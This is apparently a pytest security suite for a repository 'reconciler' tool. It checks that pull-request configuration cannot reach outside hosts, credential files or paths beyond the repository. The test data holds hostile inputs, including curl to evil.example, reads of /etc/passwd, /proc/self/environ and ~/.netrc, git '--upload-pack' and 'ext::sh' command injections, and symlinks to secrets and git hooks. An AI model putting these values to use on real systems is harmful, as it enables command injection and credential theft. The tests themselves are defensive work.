"""Configuration and files of a pull request that reach for credentials, or for files of the machine."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.backends.server import RawServer
from tests.security.support import CANARY, MARK, Checkout, assert_clean, everything
from tests.support import Result

REFUSED_LINES = {
    "another origin": "base_url: https://evil.example",
    "another origin, inside api": "api: {url: https://evil.example}",
    "another origin by another name": "endpoint: https://evil.example",
    "a credential command": "token_command: [curl, https://evil.example]",
    "a credential file": "token_file: /etc/passwd",
    "a token": "token: abc",
    "a user": "username: mallory",
    "another prefix": "api: {prefix: /v1/../../evil}",
    "a plan key": "plan_key: abc",
    "a proxy": "api: {proxy: 'http://evil.example'}",
    "no verification": "api: {verify: false}",
    "contacts of the process": "contacts: /proc/self/environ",
    "contacts upwards": "contacts: ../secret.yaml",
    "contacts far upwards": "contacts: groups/../../../../../../../proc/self/environ",
    "contacts at home": "contacts: ~/.netrc",
    "contacts as a URL": "contacts: https://evil.example/contacts.yaml",
    "contacts as an option": "contacts: --help",
    "manifests upwards": "manifests: ..",
    "manifests of the machine": "manifests: /etc",
    "an icon upwards": "defaults: {icon: ../secret.png}",
    "state upwards": "state: file:../state.json",
    "state of the machine": "state: file:/var/tmp/state.json",
    "state at home": "state: file:~/state.json",
    "state as a URL": "state: git:https://evil.example/x.git/main",
    "state by ssh": "state: git:git@evil.example:x/main",
    "state as an option": "state: git:--upload-pack=touch${IFS}pwned/main",
    "state as an option of a branch": "state: git:origin/--upload-pack=touch",
    "state by a helper": "state: 'git:ext::sh -c touch% pwned/main'",
    "state over http": "state: http://evil.example/state",
    "a branch that climbs": "state: git:origin/../../refs/heads/main",
    "a state with a line break": 'state: "file:a\\nb"',
    "an account's state by a helper": "accounts: {a: {state: 'git:ext::sh -c touch% pwned/main'}}",
    "an account's state of the machine": "accounts: {a: {state: 'file:/var/tmp/state.json'}}",
    "an account's manifests upwards": "accounts: {a: {manifests: ..}}",
    "an account's own origin": "accounts: {a: {base_url: 'https://evil.example'}}",
    "an account's token": "accounts: {a: {token: abc}}",
    "an account that is a path": "accounts: {'../a': {}}",
    "an account that is another's variable": "accounts: {'a_b': {}, 'A': {}}",
}


@pytest.mark.parametrize("line", REFUSED_LINES.values(), ids=REFUSED_LINES)
def test_configuration_moves_nothing(line: str, checkout: Checkout, api: RawServer) -> None:
    (checkout.path.parent / "secret.yaml").write_text(f"people: {{{CANARY}: 1}}\n")
    if line.startswith(("api:", "accounts:")):
        checkout.write("reconciler.yaml", f"{line}\n")
    else:
        checkout.configure(line)
    done = checkout.quick("plan", within=20)
    assert done.code == 1, everything(done)
    assert MARK.search(done.err), done.err
    assert "reconciler.yaml:" in done.err
    assert api.connections == 0
    assert_clean(done)


def test_a_state_in_git_is_on_a_remote_of_this_repository_and_nowhere_else(
    checkout: Checkout, api: RawServer
) -> None:
    """Git would take a name that is no remote for a folder, and a pull request may bring one."""
    for arguments in (
        ("init", "--quiet", "."),
        ("init", "--quiet", "--bare", "evil"),
        ("config", "-f", "evil/config", "uploadpack.packObjectsHook", "touch pwned"),
    ):
        subprocess.run(["git", *arguments], cwd=checkout.path, check=True)
    checkout.configure("state: git:evil/main")
    done = checkout.quick("plan")
    assert done.code == 1
    assert "a remote that this repository does not have: evil" in done.err
    assert not (checkout.path / "pwned").exists()
    assert api.connections == 0
    assert_clean(done)


def _secret(checkout: Checkout) -> Path:
    path = checkout.path.parent / "secret.yaml"
    path.write_text(f"{CANARY}: {CANARY}\n- {CANARY}\n")
    return path


def _link(name: str) -> Callable[[Checkout], None]:
    def plant(checkout: Checkout) -> None:
        path = checkout.path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(_secret(checkout))

    return plant


def _chain(checkout: Checkout) -> None:
    (checkout.path / "one").symlink_to(_secret(checkout))
    (checkout.path / "groups/two.yaml").symlink_to("../one")


def _folder(checkout: Checkout) -> None:
    outside = checkout.path.parent / "outside"
    outside.mkdir()
    (outside / "x.yaml").write_text(f"subject: {CANARY}\n")
    (checkout.path / "groups/more").symlink_to(outside)


def _fifo(name: str) -> Callable[[Checkout], None]:
    def plant(checkout: Checkout) -> None:
        (checkout.path / name).unlink(missing_ok=True)
        os.mkfifo(checkout.path / name)

    return plant


def _device(name: str, device: str) -> Callable[[Checkout], None]:
    def plant(checkout: Checkout) -> None:
        (checkout.path / name).unlink(missing_ok=True)
        (checkout.path / name).symlink_to(device)

    return plant


def _socket(checkout: Checkout) -> None:
    here = os.getcwd()
    os.chdir(checkout.path / "groups")  # a socket's path may be 107 bytes long
    try:
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("s.yaml")
    finally:
        os.chdir(here)


def _loop(checkout: Checkout) -> None:
    (checkout.path / "groups/a.yaml").symlink_to("b.yaml")
    (checkout.path / "groups/b.yaml").symlink_to("a.yaml")


def _icon(target: str) -> Callable[[Checkout], None]:
    def plant(checkout: Checkout) -> None:
        checkout.group("suporte", "subject: Suporte\nicon: i.png\n")
        (checkout.path / "groups/i.png").symlink_to(target)

    return plant


def _all(*plants: Callable[[Checkout], None]) -> Callable[[Checkout], None]:
    def plant(checkout: Checkout) -> None:
        for one in plants:
            one(checkout)

    return plant


PLANTED: dict[str, Callable[[Checkout], None]] = {
    "a manifest that is a link out": _link("groups/x.yaml"),
    "contacts that are a link out": _link("contacts.yaml"),
    "a configuration that is a link out": _link("reconciler.yaml"),
    "a chain of links": _chain,
    "a folder that is a link out": _folder,
    "a manifest that is the environment": _device("groups/x.yaml", "/proc/self/environ"),
    "contacts that are the environment": _device("contacts.yaml", "/proc/self/environ"),
    "a configuration that never ends": _device("reconciler.yaml", "/dev/zero"),
    "a manifest that never ends": _device("groups/x.yaml", "/dev/zero"),
    "a manifest that is the terminal": _device("groups/x.yaml", "/dev/tty"),
    "a manifest that is a named pipe": _fifo("groups/x.yaml"),
    "contacts that are a named pipe": _fifo("contacts.yaml"),
    "a configuration that is a named pipe": _fifo("reconciler.yaml"),
    "a manifest that is a socket": _socket,
    "links in a circle": _loop,
    "an icon that is the environment": _icon("/proc/self/environ"),
    "an icon that never ends": _icon("/dev/zero"),
    "an icon that is a link out": _all(_link("secret-link"), _icon("../secret-link")),
}


@pytest.mark.parametrize("plant", PLANTED.values(), ids=PLANTED)
def test_files_that_are_not_the_repositorys(
    plant: Callable[[Checkout], None], checkout: Checkout, api: RawServer
) -> None:
    plant(checkout)
    done = checkout.quick("plan", within=20)
    assert done.code == 1, everything(done)
    assert MARK.search(done.err), done.err
    assert api.connections == 0
    assert_clean(done)


@pytest.mark.parametrize("text", ["/proc/self/environ", "../secret.yaml", "/etc/passwd", "~/.netrc", "x\ny"])
@pytest.mark.parametrize("by", ["option", "environment"])
def test_another_configuration_lies_in_the_repository_too(
    text: str, by: str, checkout: Checkout, api: RawServer
) -> None:
    _secret(checkout)
    done = (
        checkout.quick("plan", "--config", text)
        if by == "option"
        else checkout.quick("plan", RECONCILER_CONFIG=text)
    )
    assert done.code == 1
    assert api.connections == 0
    assert_clean(done)


@pytest.mark.parametrize("kind", ["worktree", "submodule", "no git at all"])
def test_the_root_of_worktrees_and_submodules(
    kind: str, checkout: Checkout, api: RawServer, tmp_path: Path
) -> None:
    """Where `.git` is a file the root is there as well; a submodule does not see the repository around it."""
    (checkout.path / ".git").rmdir()
    if kind == "worktree":
        (checkout.path / ".git").write_text("gitdir: /somewhere/.git/worktrees/x\n")
    if kind == "submodule":
        (tmp_path / ".git").mkdir()
        (checkout.path / ".git").write_text("gitdir: ../.git/modules/repo\n")
    _secret(checkout)
    assert checkout.quick("plan").code == 0
    api.seen.clear()
    checkout.configure("contacts: ../secret.yaml")
    done = checkout.quick("plan", "-C", ".")
    assert done.code == 1
    assert "leads out of the repository" in done.err
    assert not api.seen
    assert_clean(done)


def test_from_a_folder_below_paths_still_end_at_the_root(checkout: Checkout, api: RawServer) -> None:
    (checkout.path / "sub").mkdir()
    _secret(checkout)
    checkout.write("sub/reconciler.yaml", "manifests: ../groups\ncontacts: ../contacts.yaml\n")
    assert checkout.quick("plan", "-C", "sub").code == 0
    api.seen.clear()
    checkout.write("sub/reconciler.yaml", "manifests: ../groups\ncontacts: ../../secret.yaml\n")
    done = checkout.quick("plan", "-C", "sub")
    assert done.code == 1
    assert not api.seen
    assert_clean(done)


def test_a_complaint_quotes_forty_characters_at_most(checkout: Checkout) -> None:
    """A file that CI left in the checkout, named as contacts: its keys may be quoted, but never at length."""
    checkout.write(".env", f"{'A' * 30}{CANARY}: {CANARY}\n'{CANARY}\x1b[2J{CANARY}': 1\n")
    checkout.configure("contacts: .env")
    done = checkout.quick("validate")
    assert done.code == 1
    assert_clean(done)
    checkout.write(".env", f"SECRET={CANARY}\nOTHER={CANARY}\n")
    assert_clean(checkout.quick("validate"))


@pytest.mark.parametrize("way", ["by name", "by a link", "by a link to the folder", "as manifests"])
def test_gits_own_files_are_not_read(way: str, checkout: Checkout, api: RawServer) -> None:
    """A checkout in a pipeline may keep a token in `.git/config`."""
    checkout.write(".git/config.yaml", f"{CANARY}: 1\n{CANARY[:30]}: 2\n")
    match way:
        case "by name":
            checkout.configure("contacts: .git/config.yaml")
        case "by a link":
            (checkout.path / "groups/x.yaml").symlink_to("../.git/config.yaml")
        case "by a link to the folder":
            (checkout.path / "groups/x").symlink_to("../.git")
        case _:
            checkout.configure("manifests: .git")
    done = checkout.quick("plan")
    assert done.code == 1
    assert "Git's own folder" in done.err
    assert CANARY[:30] not in everything(done)
    assert api.connections == 0
    assert_clean(done)


# --- what is written ------------------------------------------------------------------------------------


def _links_out(checkout: Checkout) -> dict[str, Path]:
    outside = checkout.path.parent / "outside"
    outside.mkdir()
    return {"folder": outside, "file": outside / "state.json"}


@pytest.mark.parametrize("what", ["folder", "file"])
@pytest.mark.parametrize(
    "command", [["plan"], ["apply", "--yes"], ["state", "list"], ["state", "bind", "x", "g-1"]]
)
def test_the_state_is_kept_in_the_repository(
    what: str, command: list[str], checkout: Checkout, api: RawServer
) -> None:
    """`.reconciler` or the state in it as a link: a pull request would have it written anywhere."""
    outside = _links_out(checkout)
    if what == "folder":
        (checkout.path / ".reconciler").symlink_to(outside["folder"])
    else:
        (checkout.path / ".reconciler").mkdir()
        checkout.state.symlink_to(outside["file"])
    done = checkout.quick(*command)
    assert done.code == 1, everything(done)
    assert "through a link" in done.err
    assert not list(outside["folder"].iterdir())
    assert not [seen for seen in api.seen if seen.method != "GET"]
    assert_clean(done)


def test_the_environment_may_keep_the_state_anywhere(checkout: Checkout) -> None:
    outside = _links_out(checkout)
    done = checkout.quick("apply", "--yes", RECONCILER_STATE=f"file:{outside['file']}")
    assert done.code == 0, done.err
    assert outside["file"].exists()
    assert not checkout.state.exists()


def test_the_state_does_not_lead_into_git(checkout: Checkout) -> None:
    (checkout.path / ".reconciler").mkdir()
    (checkout.path / ".git/hooks").mkdir()
    checkout.state.symlink_to("../.git/hooks/post-checkout")
    assert checkout.quick("state", "bind", "x", "g-1").code == 1
    assert not list((checkout.path / ".git/hooks").iterdir())


@pytest.mark.parametrize("kind", ["named pipe", "device", "folder", "socket"])
def test_a_state_that_is_no_file(kind: str, checkout: Checkout, api: RawServer) -> None:
    checkout.state.parent.mkdir()
    match kind:
        case "named pipe":
            os.mkfifo(checkout.state)
        case "device":
            checkout.configure("state: file:zero")
            (checkout.path / "zero").symlink_to("/dev/zero")
        case "folder":
            checkout.state.mkdir()
        case _:
            checkout.configure("state: file:groups/s.yaml", "manifests: manifests")
            checkout.write("manifests/suporte.yaml", "subject: Suporte\n")
            _socket(checkout)
    done = checkout.quick("apply", "--yes", within=20)
    assert done.code == 1, everything(done)
    assert not [seen for seen in api.seen if seen.method != "GET"]
    assert_clean(done)


@pytest.mark.parametrize("option", ["--out", "--report"])
@pytest.mark.parametrize("through", ["file", "folder", "git"])
def test_outputs_follow_no_link_out(option: str, through: str, checkout: Checkout) -> None:
    """A report holds words that an outsider chose: written over a login script, they would be run."""
    outside = _links_out(checkout)
    target = outside["folder"] / "profile"
    target.write_text("precious")
    match through:
        case "file":
            (checkout.path / "plan.json").symlink_to(target)
            name = "plan.json"
        case "folder":
            (checkout.path / "out").symlink_to(outside["folder"])
            name = "out/profile"
        case _:
            target = checkout.path / ".git/config"
            target.write_text("precious")
            (checkout.path / "plan.json").symlink_to(".git/config")
            name = "plan.json"
    done = checkout.quick("plan", option, name if option == "--out" else f"text={name}")
    assert done.code == 1, everything(done)
    assert target.read_text() == "precious"
    assert_clean(done)


def test_outputs_go_where_the_command_says(checkout: Checkout) -> None:
    outside = checkout.path.parent / "plan.json"
    assert checkout.quick("plan", "--out", str(outside), "--report", "json=/dev/null").code == 0
    assert outside.exists()
    assert os.stat("/dev/null").st_mode & 0o777 == 0o666, "a device keeps its mode"


def test_a_sandbox_keeps_its_groups_in_the_repository(checkout: Checkout, api: RawServer) -> None:
    outside = _links_out(checkout)
    (checkout.path / ".reconciler").symlink_to(outside["folder"])
    for command in (["plan", "--sandbox"], ["sandbox"]):
        done = checkout.quick(*command, within=20)
        assert done.code == 1, everything(done)
    assert not list(outside["folder"].iterdir())
    assert api.connections == 0


def test_a_folder_that_is_gone(checkout: Checkout, tmp_path: Path) -> None:
    gone = tmp_path / "gone"
    gone.mkdir()
    done = subprocess.run(
        ["sh", "-c", 'rmdir "$PWD" && exec "$0" -m reconciler validate', sys.executable],
        cwd=gone,
        env=checkout.environment | {"PYTHONPATH": os.getcwd()},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 1, done.stderr
    assert "present folder" in done.stderr
    assert_clean(Result(done.returncode, done.stdout, done.stderr))
